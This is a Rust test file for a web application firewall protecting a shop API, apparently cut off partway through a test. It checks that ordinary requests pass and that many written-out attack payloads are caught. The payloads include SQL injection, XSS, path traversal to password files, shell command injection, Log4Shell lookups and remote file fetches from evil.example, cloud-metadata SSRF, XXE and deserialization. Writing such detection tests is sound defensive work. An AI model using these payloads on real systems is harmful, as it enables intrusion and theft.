use http::{HeaderMap, HeaderName, HeaderValue, Method};

use super::*;

fn waf() -> Waf {
    Waf::new(Config::parse(Config::default_file()).unwrap()).unwrap()
}

struct Req {
    method: Method,
    uri: String,
    headers: HeaderMap,
    body: Vec<u8>,
}

fn req(method: Method, uri: &str) -> Req {
    let mut headers = HeaderMap::new();
    headers.insert(header::HOST, HeaderValue::from_static("shop.example"));
    headers.insert(
        header::USER_AGENT,
        HeaderValue::from_static("Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"),
    );
    headers.insert(
        header::ACCEPT,
        HeaderValue::from_static("application/json, */*;q=0.8"),
    );
    Req {
        method,
        uri: uri.to_owned(),
        headers,
        body: Vec::new(),
    }
}

fn get(uri: &str) -> Req {
    req(Method::GET, uri)
}

fn post(uri: &str, content_type: &'static str, body: &str) -> Req {
    let mut r = req(Method::POST, uri);
    r.headers
        .insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    r.body = body.as_bytes().to_vec();
    r
}

fn json(uri: &str, body: &str) -> Req {
    post(uri, "application/json", body)
}

impl Req {
    fn header(mut self, name: &'static str, value: &str) -> Req {
        self.headers.append(
            HeaderName::from_static(name),
            HeaderValue::from_bytes(value.as_bytes()).unwrap(),
        );
        self
    }

    fn verdict(&self, waf: &Waf) -> Verdict {
        let (path, query) = match self.uri.split_once('?') {
            Some((path, query)) => (path, Some(query)),
            None => (self.uri.as_str(), None),
        };
        waf.inspect(&Request {
            method: &self.method,
            path,
            query,
            headers: &self.headers,
            body: &self.body,
        })
    }
}

/// Requests every shopper, seller and admin flow of the contract sends, with the awkward but
/// legitimate text real people type.
fn shop_flows() -> Vec<Req> {
    vec![
        get("/products?category_id=0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60&limit=20"),
        get("/products?cursor=eyJpZCI6IjAxOTZmNWEyIiwidCI6MTcwMH0&limit=100"),
        get("/search?q=men%27s+running+shoes&sort=price_asc&min_price=1000&max_price=25000"),
        get("/search?q=O%27Reilly+%22Programming+Rust%22&limit=10"),
        get("/search?q=select+your+size+from+the+menu"),
        get("/search?q=union+was+a+great+select"),
        get("/search?q=drop+earrings+2+pack"),
        get("/search?q=1%2F2+inch+drill+bit+%26+case"),
        get("/search?q=caf%C3%A9+cr%C3%A8me+br%C3%BBl%C3%A9e"),
        get("/search?q=USB-C+(2m)+cable+%E2%80%93+100W"),
        get("/search?q=rock+%26+roll+t-shirt&category_id=0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60"),
        get("/search/suggestions?q=iph"),
        get("/search?q=echo+dot+smart+speaker"),
        get("/search?q=cat+toys"),
        get("/search?q=ls+300+lexus"),
        get("/search?q=bash+away+in+the+gym"),
        get("/search?q=South+African+Rand+(ZAR)"),
        get("/search?q=allen+key+hex+(5mm)"),
        get("/search?q=gel+shoe+insert(s)+2+pairs"),
        get("/search?q=size+chart+length+(cm)"),
        get("/search?q=smoke+detector+(alert)+(white)"),
        get("/search?q=shoes+(red)(size+9)"),
        get("/search?q=lego+bridge%2C+column+and+fold-out+table"),
        get("/search?q=ansible+for+devops+book"),
        get("/search?q=busybox+activity+cube"),
        get("/search?q=if+not+defined+in+the+manual%2C+ask+support"),
        get("/search?q=for+20%25+off+in+selected+stores+do+visit"),
        get("/search?q=prices+in+%24US+(excl.+tax)"),
        get("/search?q=java.util+book"),
        get("/search?q=python3.10+cookbook"),
        get("/search?q=JavaScript%3A+Basics+of+JavaScript+Language"),
        get("/search?q=DEAR+FINN%2C--I+think+it+would+do%3B+copy+should+reach+us"),
        get("/search?q=Dinner+for+Two+Meal+Kit"),
        get("/search?q=%26+set+of+4+mugs"),
        get("/search?q=knife+%26+fork+set%3B+top+rated"),
        get("/search?q=sizes+%7BS%2CM%2CL%7D+or+%7Bred%2C+blue%7D"),
        get("/search?q=std%3A%3Astring+and+C%2B%2B+primer"),
        get("/search?q=how+to+create+table+runner"),
        get("/search?q=storage+bin%2Fbasket+set"),
        get("/search?q=data+cable+usb-c%3A+3+pack"),
        get("/search?q=wow!+10%25+off!!+deal+of+the+day"),
        get("/search?q=baby+sleep+(8+hours)+sack"),
        get("/search?q=window+%2F+door+seal+(top+%2F+side)"),
        get("/search?q=%24+%7Bprice%7D+label+maker"),
        get("/search?q=backup+drive+2TB+%7C+ps5+compatible"),
        get("/products?limit=20")
            .header("user-agent", "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36")
            .header("referer", "https://shop.example/search?q=tom+%26+jerry&sort=top")
            .header("x-forwarded-for", "203.0.113.7, 10.0.0.1")
            .header("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        get("/products").header("user-agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        get("/search?q=%7B%22color%22%3A%22red%22%7D"),
        get("/products/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/reviews?limit=5"),
        get("/recommendations/user/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60?limit=10"),
        get("/.well-known/jwks.json"),
        get("/orders?limit=20").header("authorization", "Bearer eyJhbGciOiJFZERTQSIsImtpZCI6ImsxIiwidHlwIjoiSldUIn0.eyJzdWIiOiIxIn0.c2ln"),
        get("/cart").header("x-cart-token", "b3f1c2d4-5e6f-4a7b-8c9d-0e1f2a3b4c5d"),
        get("/products?limit=20").header("referer", "https://shop.example/products?page=2&sort=price"),
        get("/products?limit=20").header("cookie", "theme=dark; _ga=GA1.2.1234567890.1700000000; consent={\"ads\":false}"),
        get("/products").header("user-agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"),
        get("/products").header("user-agent", "k6/1.0.0 (https://k6.io/)"),
        json("/users/register", r#"{"email":"o'brien+shop@example.com","password":"' OR 1=1 -- <script>x</script>","name":"Siobhán O'Brien"}"#),
        json("/users/login", r#"{"email":"jane@example.com","password":"c0rrect-h0rse; DROP battery"}"#),
        json("/cart/items", r#"{"product_id":"0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60","quantity":2}"#)
            .header("x-cart-token", "b3f1c2d4-5e6f-4a7b-8c9d-0e1f2a3b4c5d"),
        json("/orders", r#"{"address_id":"0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60","payment_token":"tok_visa"}"#)
            .header("idempotency-key", "checkout-2026-11-25T10:00:00Z-7f3a"),
        json("/users/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/addresses", r#"{"line1":"12 Rue de l'Église","line2":"Apt. #4 (rear)","city":"Saint-Étienne","postal_code":"42000","country":"FR"}"#),
        json("/products/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/reviews", r#"{"rating":4,"title":"Works -- mostly","body":"Select the larger size; it runs small. I'd order again & again :) 5/5 would buy... <3\nAlso: the 'quick start' guide (p. 2) is wrong, use 1=1 mapping."}"#),
        json("/products/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/reviews", r#"{"rating":5,"body":"Bought it for my son's room; he says it's \"the best\". Delivery was on time = happy. Price < $20 & quality > expected!"}"#),
        json("/products", r#"{"name":"Tom & Jerry's Mug (350 ml)","description":"Dishwasher-safe. Holds 12 oz; see chart: S/M/L. Use code SAVE10 at checkout.","price":{"amount":1299,"currency":"USD"},"category_id":"0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60","attributes":{"color":"red/white","material":"stoneware"}}"#),
        json("/products", r#"{"name":"Script Pen – Calligraphy Set","description":"For <b>bold</b> lettering; includes 3 nibs (0.5/1.0/2.0 mm).","price":{"amount":2500,"currency":"EUR"}}"#),
        json("/inventory/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60", r#"{"region":"eu-west","available":50}"#),
        json("/products/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/reviews", r#"{"rating":3,"body":"If it exists in blue I'd buy it; time to order. Sound system (black) works, exec chair too. 100% cotton, 50% off!"}"#),
        json("/products/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/reviews", r#"{"rating":4,"body":"Email \"support@shop.example\"; they replied in a day. Top. Write your size in the notes, set of 2 (version 2.0) fits 4294967296-byte cards? No, 64GB.\nQuit worrying, it works."}"#),
        json("/users/register", r#"{"email":"ann.lee+shop@example.co.uk","name":"Ann Lee","note":"Self. Top floor, door code 1.e4"}"#),
        json("/products", r#"{"name":"Kids' Busy Box (wooden)","description":"Fold flat; column shelf (2 pcs). Prices from $9.99 (incl. VAT). Sizes [S]/[M]/[L].","tags":["toy","wooden"]}"#),
        post("/products/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/photos", "multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\nMy 50% discount haul (worth it)\r\n--XyZ--\r\n"),
        json("/orders/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/cancel", r#"{"reason":"Ordered the wrong size (M instead of L) - sorry!"}"#),
        json("/notifications/send", r#"{"user_id":"0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60","channel":"email","template":"order_shipped","data":{"tracking":"1Z999AA10123456784"}}"#),
        post("/users/login", "application/x-www-form-urlencoded", "email=jane%40example.com&password=p%40ss%27word"),
        req(Method::DELETE, "/cart/items/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60"),
    ]
}

#[test]
fn the_shop_flows_pass() {
    let waf = waf();
    let mut blocked = Vec::new();
    for request in shop_flows() {
        let verdict = request.verdict(&waf);
        if verdict.anomalous {
            blocked.push(format!(
                "{} {} {:?} blocked: {:?}",
                request.method,
                request.uri,
                String::from_utf8_lossy(&request.body),
                verdict.hits
            ));
        }
    }
    assert!(blocked.is_empty(), "{}", blocked.join("\n"));
}

/// One attack of each family, in each place it can hide, with the rule expected to catch it.
#[test]
fn attacks_are_caught_by_the_expected_rule() {
    let waf = waf();
    let cases = attack_cases();
    let mut missed = Vec::new();
    for (rule, request) in &cases {
        let verdict = request.verdict(&waf);
        if !verdict.anomalous || !verdict.hits.iter().any(|h| h.rule == *rule) {
            missed.push(format!(
                "{rule}: {} {} -> {:?}",
                request.method, request.uri, verdict.hits
            ));
        }
    }
    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
}

/// Every verdict on the shop's flows and the attack cases at paranoia levels 1 to 4 (score,
/// rules and where each matched), pinned as a snapshot: a change to the WAF that changes any of
/// them shows as a diff to review (`cargo insta review`), and a change meant to change nothing,
/// such as a faster scan, is shown to change nothing.
#[test]
fn every_verdict_is_pinned() {
    use std::fmt::Write;
    let requests: Vec<Req> = shop_flows()
        .into_iter()
        .chain(attack_cases().into_iter().map(|(_, request)| request))
        .collect();
    let mut verdicts = String::new();
    for level in 1..=4 {
        let waf = at_level(level);
        for request in &requests {
            let verdict = request.verdict(&waf);
            let outcome: Vec<String> = std::iter::once(verdict.score.to_string())
                .chain(
                    verdict
                        .hits
                        .iter()
                        .map(|hit| format!("{}@{}", hit.rule, hit.target)),
                )
                .collect();
            let headers: Vec<&str> = request.headers.keys().map(HeaderName::as_str).collect();
            writeln!(
                verdicts,
                "PL{level} {} {} [{}] {} B -> {}",
                request.method,
                request.uri,
                headers.join(" "),
                request.body.len(),
                outcome.join(" ")
            )
            .unwrap();
        }
    }
    insta::assert_snapshot!(verdicts);
}

/// The default rules at paranoia level `level`.
fn at_level(level: u8) -> Waf {
    let text =
        Config::default_file().replace("paranoia_level = 1", &format!("paranoia_level = {level}"));
    Waf::new(Config::parse(&text).unwrap()).unwrap()
}

/// Attacks, each with a rule that must catch it at paranoia level 1.
fn attack_cases() -> Vec<(u32, Req)> {
    vec![
        (942100, get("/search?q=1%27%20OR%20%271%27%3D%271")),
        (
            942100,
            get("/products?id=1+union+select+password+from+users--"),
        ),
        (
            942190,
            get("/search?q=x%27%20UNION/**/SELECT%20null,version()--"),
        ),
        (
            942100,
            json(
                "/cart/items",
                r#"{"product_id":"1' AND SLEEP(5)#","quantity":1}"#,
            ),
        ),
        (942160, get("/search?q=sleep(10)")),
        (942160, get("/search?t=sELecT%20slEep%20%2820%20dIv%203%29")),
        (942140, get("/search?q=foo+from+information_schema.tables")),
        (942280, get("/search?q=1;WAITFOR%20DELAY%20%270:0:5%27--")),
        (942290, get("/users/login?email[$ne]=x")),
        (942350, get("/search?q=x%3B%20DROP%20TABLE%20users")),
        (942500, get("/search?q=1/*!50000union*/")),
        (942100, get("/search?q=%2527%2520or%25201%253D1--")),
        (
            942100,
            get("/search").header("cookie", "session=1' or '1'='1"),
        ),
        (941100, get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")),
        (
            941110,
            get("/search?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B"),
        ),
        (
            941120,
            json(
                "/products/x/reviews",
                r#"{"body":"<img src=x onerror=alert(document.domain)>"}"#,
            ),
        ),
        (941140, get("/search?q=javascript:alert(1)")),
        (
            941160,
            get("/search?q=%EF%BC%9Csvg/onload=alert(1)%EF%BC%9E"),
        ),
        (941180, get("/search?q=%22%3Edocument.cookie")),
        (
            941100,
            get("/search?q=\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
        ),
        (
            941100,
            get("/search").header("referer", "http://x/<script>alert(1)</script>"),
        ),
        (941350, get("/search?q=%2BADw-script%2BAD4-")),
        (930100, get("/static/%2e%2e%2f%2e%2e%2fetc%2fpasswd")),
        (
            930110,
            get("/search?file=..%252f..%252f..%252fetc%252fpasswd"),
        ),
        (930120, get("/search?file=/etc/shadow")),
        (930120, get("/search?q=C:%5Cboot.ini")),
        (931100, get("/search?url=http://192.168.1.10/shell.txt")),
        (932235, get("/search?q=x%3Bcat%20/etc/passwd")),
        (932230, get("/search?q=a|w'h'o'am'i")),
        (932235, get("/search?q=x%26%26sleep+5")),
        (932130, get("/search?q=$(id)")),
        (932160, get("/search?q=1;/bin/bash+-c+id")),
        (
            932170,
            get("/search").header("user-agent", "() { :; }; /bin/bash -c 'curl x'"),
        ),
        (932110, get("/search?q=x|cmd.exe%20/c%20dir")),
        (
            932120,
            get(
                "/search?q=powershell+-enc+IEX(New-Object+Net.WebClient).DownloadString('http://x')",
            ),
        ),
        (
            933100,
            json(
                "/products/x/reviews",
                r#"{"body":"<?php system($_GET['c']); ?>"}"#,
            ),
        ),
        (933150, get("/search?q=phpinfo()")),
        (933170, get("/search?q=O:8:%22stdClass%22:1:{s:1:%22a%22;}")),
        (
            933140,
            get("/search?q=php://filter/convert.base64-encode/resource=index.php"),
        ),
        (
            934130,
            json("/cart/items", r#"{"__proto__":{"admin":true}}"#),
        ),
        (934100, get("/search?q=require('child_process').exec('id')")),
        (
            934110,
            get("/search?url=http://169.254.169.254/latest/meta-data/"),
        ),
        (934910, get("/search?q={{7*7}}")),
        (
            944150,
            get("/search").header("x-api-version", "${jndi:ldap://evil.example/a}"),
        ),
        (944150, get("/search?q=${${lower:j}ndi:ldap://x/a}")),
        (
            944100,
            get("/search?q=java.lang.Runtime.getRuntime().exec(%22id%22)"),
        ),
        (
            943100,
            get("/search?q=%3Cscript%3Edocument.cookie=%22sid=1;%20domain=.evil%22%3C/script%3E"),
        ),
        (943120, get("/login?PHPSESSID=abc123")),
        (
            942140,
            get("/search?q=select%20name%20from%20sysibm.systables"),
        ),
        (942190, get("/search?q=select%20session_user")),
        (
            930100,
            get("/products?image=0x2e0x2e0x5c0x2e0x2e0x5cwin.ini"),
        ),
        (
            930100,
            get("/products?image=..%01%c1%8s..%01%c1%8setc%c1%8sshadow"),
        ),
        // "\r\nRSET\r\n", base64 without padding: 11 characters.
        (921910, get("/search?q=DQpSU0VUDQo")),
        (
            942290,
            json(
                "/users/login",
                "{\"email\":\"a@shop.example\",\"password\":{\"$ne\":\"\"}}",
            ),
        ),
        (942320, get("/search?q=lo_get(16400)::bytea")),
        (
            942170,
            get("/products?limit=1;select%20if(ascii(1)>64,0,1)"),
        ),
        (
            944150,
            json("/cart/items", "{\"note\":\"jndi:rmi://x.example:1099/a\"}"),
        ),
        (
            943110,
            get("/api/auth/signin?next-auth.session-token=f00dfeed")
                .header("referer", "https://lookalike.example/login"),
        ),
        (
            931110,
            get("/gallery/init.php?GALLERY_BASEDIR=http%3A%2F%2Fevil.example%2Fshell.txt"),
        ),
        (921120, get("/search?q=x%0d%0aSet-Cookie:%20sid=evil")),
        (
            921110,
            json(
                "/orders",
                "{\"note\":\"x\\r\\n\\r\\nGET /admin HTTP/1.1\\r\\nHost: x\"}",
            ),
        ),
        (921200, get("/search?user=*)(uid=*))(|(uid=*")),
        (920170, get("/search").header("content-length", "5")),
        (920420, post("/orders", "text/plain", "hello")),
        (920440, get("/backup.sql")),
        (920440, get("/Site.Config")),
        (
            920450,
            get("/products").header("x-http-method-override", "DELETE"),
        ),
        (920270, get("/search?q=a%00b")),
        (
            920120,
            post(
                "/uploads",
                "multipart/form-data; boundary=b",
                "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a';.jpg\"\r\n\r\nx\r\n--b--\r\n",
            ),
        ),
        (
            933110,
            post(
                "/uploads",
                "multipart/form-data; boundary=b",
                "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n",
            ),
        ),
        (
            942100,
            post(
                "/uploads",
                "multipart/form-data; boundary=b",
                "--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' or '1'='1\r\n--b--\r\n",
            ),
        ),
        (
            934920,
            post(
                "/feed",
                "application/xml",
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            ),
        ),
        (
            942100,
            post(
                "/login",
                "application/x-www-form-urlencoded",
                "user=admin%27--&pass=x",
            ),
        ),
        (
            932140,
            get("/search?q=for+%2Ff+%25i+in+(%27whoami%27)+do+echo+%25i"),
        ),
        (932140, get("/search?q=IF+EXIST+C%3A%5Cboot.ini+(del+x)")),
        (932230, get("/search?q=x%3B+time+sh+-c+id")),
        (932235, get("/search?q=x%3Bcd+etc%3Bbase32+passwd")),
        (932175, get("/search?q=alias+x%3Did%0Ax")),
        (932260, get("/search?q=ansible-vault+decrypt+secret")),
        (932270, get("/search?q=~%2B")),
        (932130, get("/search?q=cat+/etc/pa%5Bs%5Dswd")),
        (933120, get("/search?q=memory_limit+%3D+512M")),
        (933160, get("/search?q=exec+/*x*/+(id)")),
        (933180, get("/search?q=%24a%281%29")),
        (933180, get("/search?q=%24__%5B%27o%27%5D(5)")),
        (933210, get("/search?q=(system)(%27uname%27)")),
        (934100, get("/search?q=_%24%24ND_FUNC%24%24_function(){}")),
        (934160, get("/search?q=while(!false)")),
        (934190, get("/fetch?url=http://localhost/admin")),
        (
            934930,
            get("/search?q=true%2C+%24where%3A+%2799+%3D%3D+88%27"),
        ),
        (941390, get("/search?q=confirm.call(null%2C1)")),
        (942151, get("/search?q=x%27+or+group_concat+(password)")),
        (
            942550,
            get("/search?q=%27%7B%22b%22%3A2%7D%27%3A%3Ajsonb+%3C%40+%27%7B%22a%22%3A1%7D%27"),
        ),
        (944130, get("/search?q=x+java.io.FileOutputStream")),
        (
            941120,
            json(
                "/products/x/reviews",
                r#"{"body":"%3Csvg%2Fonload%3Dalert(1)%3E"}"#,
            ),
        ),
        (
            930100,
            get("/search?f=%25C0%25AE%25C0%25AE%25C0%25AFetc%25C0%25AFpasswd"),
        ),
        (930120, get("/search?f=file:%2F%2F%2Fetc%2F.%2Fpasswd")),
        (
            930120,
            get("/search?f=%5C%5C::1%5Cc$%5Cusers%5Cdefault%5Cntuser.dat"),
        ),
        (930130, get("/static/backup.sql.zip")),
        (931120, get("/search?x=https?")),
        (921200, get("/search?u=userPassword:2.5.13.18:=123")),
        (921910, get("/search?q=x%0D%0AQUIT%0D%0A")),
        (932125, get("/search?cmd=%3Biwr%20http://example.com/p.ps1")),
        (
            932230,
            get("/search?q=%3Bgcc10.1%3C%3C%3Cvoid+main%28%29%7B%7D"),
        ),
        (
            932230,
            get("/search").header("x-forwarded-host", "cmd=127.0.0.1 && ls /etc"),
        ),
        (932280, get("/search?q=%7Bl%2C-lh%7Ds")),
        (932340, get("/search").header("referer", ";env")),
        (932340, get("/search?q=%27%3Bhtop%27")),
        (
            932380,
            get("/search?view%3Dimage.jpg%26bcdboot%20%2Fr%20file.txt"),
        ),
        (
            933135,
            get("/search?q=%24%20%7B%27_VAR%27.%27IABLE_NAME%27%7D"),
        ),
        (933150, get("/search?q=posix_getegid()")),
        (
            933200,
            get("/search?file=ssh2.shell://user:pw@example.com:22/xterm"),
        ),
        (
            934160,
            get("/0%3Bvar%20d=new%20Date()%3B%20do%7Bc%20=%20new%20Date()%3B%7Dwhile(c-d%3C10000)"),
        ),
        (
            934920,
            post(
                "/feed",
                "application/xml",
                "<!DOCTYPE x SYSTEM \"//x/x\"><x>a</x>",
            ),
        ),
        (
            934940,
            get("/search?q=!!python/object/new:exec+%5Bimport+os%5D"),
        ),
        (941120, get("/search?q=%3Cx%20onend%3D")),
        (941160, get("/search?q=x%3Cf%20o%20r%20m")),
        (
            941200,
            get("/search?q=%3Cv%3Avmlframe%20src%3D%22x.fml%22%2F%3E"),
        ),
        (
            941370,
            get("/search?q=document%2F%2Afoo%2A%2F.%2F%2Abar%2A%2Fcookie"),
        ),
        (942140, get("/search?q=use+tempdb")),
        (
            942151,
            get("/search").header("x-custom", "123) AND 12=12 AND JSON_DEPTH('{}') != 2521"),
        ),
        (942220, get("/search?i=2.2250738585072011e-308")),
        (942280, get("/search?q=select+pg_sleep")),
        (942320, get("/search?id=lo_get(16400)")),
        (942360, get("/search?q=1234+AS+%22foobar%22+FROM+t")),
        (942540, get("/login?email=admin%40juice-sh.op%27%3B")),
        (942560, get("/search?q=1.e(ascii)")),
        (944110, get("/search?q=java.Runtime")),
        (
            944200,
            get("/search?q=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg"),
        ),
        (
            944200,
            json(
                "/cart/items",
                r#"{"product_id":"aced0005737200116a6176612e7574696c2e486173684d6170","quantity":1}"#,
            ),
        ),
        (
            913100,
            get("/").header("user-agent", "Mozilla/5.0 root@abc123.interact.sh"),
        ),
        (930140, get("/.zed/settings.json")),
        (932160, get("/search?a=bin/visudo")),
        (932330, get("/search?rce=!-1!-2")),
        (
            932370,
            get("/search?cmd=%3B%20regedit%20%2FE%20c%3A%5Cx.reg"),
        ),
        (
            934110,
            get("/fetch?ssrf=https%3A%2F%2Fmetadata.packet.net%2Fuserdata"),
        ),
        (934170, get("/fetch?ssrf=data:text/plain")),
        (941140, get("/search?test=x%3Dx%3Aurl%28javascript")),
        (941180, get("/search?q=document.body.appendChild(x)")),
        (941210, get("/search?q=ja%26newline%3Bvascript%3A")),
        (942350, get("/search?q=x%3Btruncate[xx")),
        // Base64 of `' or 1=1 --`, as an API that decodes its input would run it.
        (942100, get("/search?q=JyBvciAxPTEgLS0")),
        (
            913100,
            get("/").header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ),
    ]
}

#[test]
fn framework_session_tokens_need_an_off_domain_referer() {
    let waf = waf();
    let typed = get("/api/auth/signin?next-auth.session-token=f00dfeed");
    assert!(typed.verdict(&waf).hits.is_empty());
    let same_site = get("/api/auth/signin?next-auth.session-token=f00dfeed")
        .header("referer", "https://shop.example/account");
    assert!(same_site.verdict(&waf).hits.is_empty());
}

#[test]
fn a_base64_payload_in_a_path_segment_is_read() {
    let waf = waf();
    // `<script>alert(1)</script>` and `' or 1=1--`, base64 (URL-safe alphabet, no padding),
    // as a segment and as the whole path.
    for path in [
        "/products/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg/reviews",
        "/JyBvciAxPTEtLQ",
    ] {
        let verdict = get(path).verdict(&waf);
        assert!(verdict.anomalous, "{path}: {}", verdict.rule_ids());
    }
    // Lowercase ids and words are base64 digits too, but no encoding: nothing to decode.
    let verdict = get("/products/0196f5a2-8c1e-7d3b-9a4f-1b2c3d4e5f60/reviews").verdict(&waf);
    assert!(verdict.hits.is_empty(), "{}", verdict.rule_ids());
}

/// A cursor that is base64 of a JSON document is read as the application reads it: its
/// strings and member names are judged one by one (an injection in one is caught), and its
/// quotes are the document's, not an SQL string's. Anything after the document makes it no
/// document, and the decoded text is judged whole.
#[test]
fn a_base64_json_cursor_is_read_as_json() {
    use base64::Engine as _;
    let waf = waf();
    let cursor = |text: &str| {
        let encoded = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text);
        get(&format!("/products?limit=20&cursor={encoded}"))
    };
    let shopper = cursor(r#"{"id":"0196f5a2-8c1e","t":1700000000,"dir":"next","q":"men's shoes"}"#);
    let verdict = shopper.verdict(&waf);
    assert!(verdict.hits.is_empty(), "{}", verdict.rule_ids());
    for payload in [
        r#"{"id":"1' or '1'='1"}"#,
        r#"{"q":"<script>alert(1)</script>"}"#,
        r#"{"<img src=x onerror=alert(1)>":1}"#,
        r#"["next","; cat /etc/passwd"]"#,
        r#"{"id":"0196"} union select password from users--"#,
    ] {
        let verdict = cursor(payload).verdict(&waf);
        assert!(verdict.anomalous, "{payload}: {}", verdict.rule_ids());
    }
}

#[test]
fn raw_markers_are_found_wherever_they_sit() {
    let found = [
        "rO0ABXNy",
        "xx rO0AB",
        "ACED0005737200",
        "0xaced0005",
        "rO0AB",
        "..0x2fetc",
        "0X5C",
    ];
    for raw in found {
        assert!(raw_markers(raw.as_bytes()), "{raw}");
    }
    for raw in [
        "rO0A",
        "ced0005",
        "acedx0005",
        "10005",
        "order 0005",
        "0x20",
        "0x",
        "",
    ] {
        assert!(!raw_markers(raw.as_bytes()), "{raw}");
    }
}

#[test]
fn a_java_object_sent_as_raw_bytes_is_caught_and_accented_text_is_not_read_raw() {
    let waf = waf();
    let mut object = post("/cart/items", "application/x-www-form-urlencoded", "");
    object.body = b"note=\xac\xed\x00\x05sr\x00\x11java.util.HashMap".to_vec();
    let verdict = object.verdict(&waf);
    assert!(
        verdict.hits.iter().any(|hit| hit.rule == 944200),
        "{}",
        verdict.rule_ids()
    );
    // The magic bytes are not UTF-8: text that is (accents, a stray `\xac` inside a word)
    // cannot hold them.
    for text in ["Saint-\u{c9}tienne", "caf\u{e9} \u{ac}\u{ed} cr\u{e8}me"] {
        let body = format!("{{\"city\":\"{text}\"}}");
        let verdict = json("/users/register", &body).verdict(&waf);
        assert!(verdict.hits.is_empty(), "{text}: {}", verdict.rule_ids());
    }
}

#[test]
fn libinjection_reads_each_value_in_the_contexts_it_could_inject_into() {
    let contexts = |text: &str| sql_contexts(text, normalize::Shape::of(text.as_bytes()));
    for text in [
        "and sleep(5)#",
        "null#",
        "1 #",
        "x' or 'a'='a",
        "admin'--",
        "x'-'",
        "o'brien'-sleep(5)-'",
        "a;select 1",
        "id/**/from",
    ] {
        assert_eq!(contexts(text), SqlContexts::All, "{text}");
    }
    for text in [
        "10.5 us",
        "12 rue de l'église, bâtiment b",
        "(rear entrance)",
        "@home",
    ] {
        assert_eq!(contexts(text), SqlContexts::Bare, "{text}");
    }
    for text in [
        "order #a-10023",
        "apt. #4, rear entrance",
        "siobhán o'brien-müller",
        "men's running shoes",
        "happy birthday, sam! i hope these keep your feet dry (and warm); love, alex & the kids.",
    ] {
        assert_eq!(contexts(text), SqlContexts::None, "{text}");
    }
    // The bare passes alone still catch a numeric-context injection.
    assert!(libinjection_sqli(b"1 or 1=1", SqlContexts::Bare));
    assert!(!libinjection_sqli(b"12 rue de l'eglise", SqlContexts::Bare));
}

/// A repeatable stream of choices: each call picks one of `n` (xorshift, from `seed`).
fn choices(mut seed: u64) -> impl FnMut(usize) -> usize {
    move |n: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        (seed % n as u64) as usize
    }
}

#[test]
fn plain_words_are_no_injection_to_libinjection() {
    use libinjectionrs::{SqliFlags, SqliState, sqli::blacklist::is_blacklisted};
    // No fingerprint of numbers, barewords, strings, commas and dots (up to libinjection's five
    // tokens) is on its list.
    let alphabet = ["1", "n", "s", ",", "."];
    let mut fingerprints: Vec<String> = alphabet.iter().map(|t| t.to_string()).collect();
    for _ in 1..5 {
        let longer: Vec<String> = fingerprints
            .iter()
            .filter(|f| f.len() == fingerprints.last().map_or(0, String::len))
            .flat_map(|f| alphabet.iter().map(move |t| format!("{f}{t}")))
            .collect();
        fingerprints.extend(longer);
    }
    assert_eq!(fingerprints.len(), 5 + 25 + 125 + 625 + 3125);
    assert!(!fingerprints.iter().any(|f| is_blacklisted(f)));
    // A variable is on it (`1sv`), and so is an injection's usual shape.
    assert!(is_blacklisted("1sv") && is_blacklisted("1UE1"));

    for text in [
        "1 union select 1",
        "1 order by 5",
        "1 or true",
        "10 and 1",
        "1 rlike 1",
        "0x1 xor 1",
        "1 current_user",
        "2 sleep",
        "1 @@version",
        "1--",
        "1 Or 1",
        "0b1current_user''",
        "0xfunion select",
    ] {
        assert!(!plain_words(text.as_bytes()), "{text}");
    }
    for text in [
        "10.5 us",
        "12 rue de l'église, bâtiment b",
        "3 o'neill st., dublin 2",
    ] {
        assert!(plain_words(text.as_bytes()), "{text}");
    }

    // Wherever `plain_words` says so, libinjection's bare passes find nothing.
    let numbers = ["1", "10.5", "0x1f", "0b1", "2e5", "007", ".5", "1."];
    let pieces = [
        "us",
        "rue",
        "de",
        "l",
        "église",
        "bâtiment",
        "b",
        "st",
        "x",
        "n",
        "e",
        "q",
        "u",
        "abc_def",
        "o",
        "'",
